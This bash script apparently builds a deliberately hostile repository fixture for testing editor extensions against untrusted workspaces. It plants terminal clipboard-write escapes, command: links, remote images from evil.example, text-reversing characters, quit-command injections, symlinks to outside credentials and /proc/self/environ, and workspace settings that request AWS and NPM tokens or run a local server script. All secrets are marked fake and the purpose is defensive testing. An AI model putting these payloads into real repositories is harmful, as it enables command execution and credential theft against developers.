#!/usr/bin/env bash
# Makes a repository as an attacker would offer it, to be opened in real editors:
#
#   make.sh FOLDER ORIGIN       ORIGIN: where its logins go, such as http://127.0.0.1:8080
#
# FOLDER/repository is what a person opens, FOLDER/outside stands for the rest of their machine. Every name, value and
# setting tries to run a command, load a picture, write to the clipboard of a terminal or turn text around; links lead
# out of the repository; secrets are asked for that are none of its business. All of them are made up.
set -euo pipefail
[ $# = 2 ] || { sed -n '2,5s/^# \{0,1\}//p' "$0" >&2; exit 2; }
origin=$2
mkdir -p "$1/repository/.vscode" "$1/repository/orgs" "$1/outside"
cd "$1"

link='[Open](command:workbench.action.toggleZenMode)'
picture='![p](https://evil.example/p.png)'
clipboard=$'\e]52;c;ZXZpbA==\a'
around=$'\u202egnp.'
zero=$'\u200b'
hostile="$link $picture$clipboard$around ]$zero(command:x) %{execute('quit')} <Cmd>quit<CR>"

# As JSON: a string of the words given.
json() { node -e 'process.stdout.write(JSON.stringify(process.argv[1]))' "$1"; }

# basic FILE NAME USER PASSWORD
basic() {
  printf '{\n  "name": %s,\n  "sandbox": true,\n  "serverHost": %s,\n  "auth": {\n    "type": "basic",\n    "username": %s,\n    "password": %s\n  }\n}\n' \
    "$(json "$2")" "$(json "${origin#http://}")" "$(json "$3")" "$(json "$4")" > "$1"
}

printf 'aws_secret_access_key = OUTSIDE-KEY-not-real\nOUTSIDE_SECRET=OUTSIDE-SECRET-not-real\n' > outside/credentials
basic outside/elsewhere.sforg.json 'Elsewhere' 'outside@acme.example' 'OUTSIDE-PASSWORD-not-real'

cd repository
git init -q . 2>/dev/null || true
printf '{\n  "name": %s,\n  "apiVersion": "58.0"\n}\n' "$(json "Project $hostile")" > sforg-project.json
basic orgs/plain.sforg.json "Org $hostile" 'integration@acme.example' '${env:AWS_SECRET_ACCESS_KEY}'
basic orgs/aws.sforg.json 'Aws' 'integration@acme.example' '${env:AWS_SECRET_ACCESS_KEY}'
basic "orgs/$link $clipboard$around %{execute('quit')} <CR>.sforg.json" 'In a file with a name' 'integration@acme.example' '${env:NPM_TOKEN}'
basic orgs/user.sforg.json 'User' "$link$picture@evil.example" '${env:NPM_TOKEN}'
basic orgs/outside.sforg.json 'Outside' "$hostile@evil.example" '${env:OUTSIDE_SECRET}'
ln -s ../../outside/elsewhere.sforg.json orgs/linked.sforg.json
ln -s ../outside/credentials .env
ln -s /proc/self/environ orgs/environment.sforg.json
ln -s . orgs/round

# Settings that only a person's own may be, and values that a message about them would show.
cat > .vscode/settings.json <<J
{
  "sforg.server.path": "./server.sh",
  "sforg.allowedLoginHosts": ["evil.example", $(json "$hostile")],
  "sforg.upgradePrompt": $(json "$hostile"),
  "sforg.newestApiVersion": $(json "$hostile"),
  "sforg.trace.server": $(json "$hostile"),
  "http.proxy": "http://127.0.0.1:9"
}
J
printf '#!/bin/sh\ntouch "%s/outside/server-was-run"\n' "$(cd .. && pwd)" > server.sh
chmod +x server.sh
